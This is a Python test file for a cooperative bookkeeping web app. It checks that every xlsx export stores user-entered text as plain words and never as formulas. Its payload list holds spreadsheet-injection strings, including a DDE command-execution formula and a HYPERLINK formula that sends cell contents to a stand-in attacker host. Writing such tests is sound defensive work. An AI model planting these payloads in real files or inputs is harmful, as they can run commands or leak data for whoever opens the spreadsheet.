"""Words that begin like a formula, in every field that people fill in: in no file that leaves do they become one."""

import re
from io import BytesIO
from itertools import cycle
from pathlib import Path
from zipfile import ZipFile

import pytest
from django.apps import apps
from django.db import Error, models, transaction
from django.test import Client
from django.urls import reverse
from openpyxl import load_workbook

from lumbung import clock
from lumbung.books.registry import BOOKS
from lumbung.cooperatives.tenant import TenantModel
from lumbung.ledger.catalogue import KINDS
from lumbung.security.models import Person
from lumbung.sql import guards
from lumbung.web import xlsx
from tests.pages import SLUG
from tests.test_pages import TODAY
from tests.village import build_village

ROOT = Path(__file__).parent.parent
PAYLOADS = [
    "=1+1", "=cmd|' /C calc'!A0", '=HYPERLINK("https://jahat.example/"&A1)', "=DDE(1)", "+62812", "-5+2", "@SUM(A1)",
    "\t=1", "\r=1", '=WEBSERVICE("x")', "=IMPORTXML(1)", "|=1",
]  # fmt: skip
OF_PEOPLE = "members cash assets savings dues meetings receipts portal approvals supervision surplus".split()
SET_BY_US = """code kind status state document key file stored sha256 hash digest source field role month basis line
    category search_text words deed channel number phone rt rw gender body""".split()
NO_WORDS = re.compile(rf"(^|_)({'|'.join(SET_BY_US)})($|_)")


def test_one_place_writes_spreadsheets_and_none_writes_text_tables():
    writers = {
        path.relative_to(ROOT).as_posix()
        for path in ROOT.glob("lumbung/**/*.py")
        if "tests" not in path.parts and re.search(r"openpyxl|csv\.(writer|DictWriter)|text/csv", path.read_text())
    }
    assert writers == {"lumbung/web/xlsx.py"}


@pytest.mark.parametrize("payload", PAYLOADS, ids=ascii)
def test_a_payload_is_a_word_wherever_it_stands(payload):
    file = xlsx.workbook([xlsx.Sheet(payload, [payload, "b"], [[payload, 3], [None, payload]], titles=[payload])])
    cells = [cell for row in load_workbook(BytesIO(file)).worksheets[0] for cell in row if isinstance(cell.value, str)]
    said = [cell for cell in cells if cell.value != "b"]
    assert [cell.value for cell in said] == [payload.replace("\r", "\n")] * 4  # a line break is a line break in XML
    assert {cell.data_type for cell in said} == {"s"} and formulas(file) == []
    if payload[0] in "=+-@\t\r":
        assert all(cell.quotePrefix for cell in said), "kept as words when somebody edits the cell"


def formulas(file: bytes) -> list[bytes]:
    with ZipFile(BytesIO(file)) as parts:
        return [found for name in parts.namelist() for found in re.findall(rb"<f[ >].*?</f>", parts.read(name))]


@pytest.fixture
def poisoned(db):
    """The small cooperative; whatever people wrote in it begins like a formula. How many fields that are."""
    with clock.frozen(TODAY):
        build_village(clock.today())
        guards.drop()
        yield sum(poison(model) for model in apps.get_models() if is_of_people(model))
        guards.create()


def is_of_people(model) -> bool:
    return issubclass(model, TenantModel) and model._meta.app_label in OF_PEOPLE


def poison(model) -> int:
    payloads, done = cycle(PAYLOADS), 0
    for field in model._meta.local_concrete_fields:
        if (
            isinstance(field, models.CharField | models.TextField)
            and not field.choices
            and not NO_WORDS.search(field.name)
        ):
            try:
                with transaction.atomic():
                    done += bool([write(row, field, next(payloads)) for row in model.everywhere.all()])
            except Error:
                pass  # a value that the database itself watches over
    return done


def write(row, field, payload: str) -> None:
    value = f"{payload} {row.pk[-1]}"[: field.max_length]
    type(row).everywhere.filter(pk=row.pk).update(**{field.name: value})


def addresses():
    here = {"slug": SLUG}
    yield from (reverse(name, kwargs=here) for name in ("dues:grid_xlsx", "savings:savers_xlsx", "cash:book_sheet"))
    yield from (reverse("books:xlsx", kwargs=here | {"key": key}) for key in BOOKS)
    yield from (reverse("ledger:sheet", kwargs=here | {"word": word}) for word in KINDS)
    yield reverse("ledger:account_sheet", kwargs=here) + "?akun=320000"


def test_every_file_that_leaves_holds_words_and_no_formula(poisoned):
    assert poisoned > 60, "fields that people fill in"
    desk, met = Client(), set()
    desk.force_login(Person.objects.get(login_name="bendahara"))
    for address in addresses():
        answer = desk.get(address)
        assert answer.status_code == 200, address
        file = answer.content
        assert formulas(file) == [], address
        for sheet in load_workbook(BytesIO(file)).worksheets:
            words = [cell for row in sheet for cell in row if isinstance(cell.value, str)]
            assert {cell.data_type for cell in words} <= {"s"}, address
            met |= {payload for payload in PAYLOADS for cell in words if cell.value.startswith(payload)}
    assert len(met) > 8, "most of them were in some file"
